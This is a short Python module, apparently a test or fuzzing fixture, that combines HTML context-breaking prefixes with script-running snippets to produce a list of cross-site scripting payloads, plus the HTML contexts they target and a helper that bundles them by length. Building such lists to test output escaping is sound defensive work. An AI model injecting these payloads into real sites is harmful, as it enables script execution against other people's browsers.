"""What an attacker types, hoping that a page takes it for a script: every way out with every script."""

from itertools import product

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "</noscript>",
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<style onload=alert(1)></style>",
)
_INSIDE_A_TAG = ('" onmouseover="alert(1)', "' onmouseover='alert(1)", "javascript:alert(1)//")

PAYLOADS = (*map("".join, product(_WAYS_OUT, _SCRIPTS)), *_INSIDE_A_TAG)

CONTEXTS = (
    "<p>%s</p>",
    '<input value="%s">',
    "<input value='%s'>",
    "<textarea>%s</textarea>",
    "<title>%s</title>",
    "<select><option>%s</option></select>",
    '<script type="application/json">%s</script>',
    "<style>%s</style>",
    "<!-- %s -->",
    "<noscript>%s</noscript>",
    '<a href="%s">x</a>',
)
"""Where words stand in a page; a page that wrote them as they are would run each in one of these."""


def bundles(most: int) -> list[str]:
    """All of them, as many together as go into a text of a length."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) > most:
            found.append("")
        found[-1] += payload
    return found
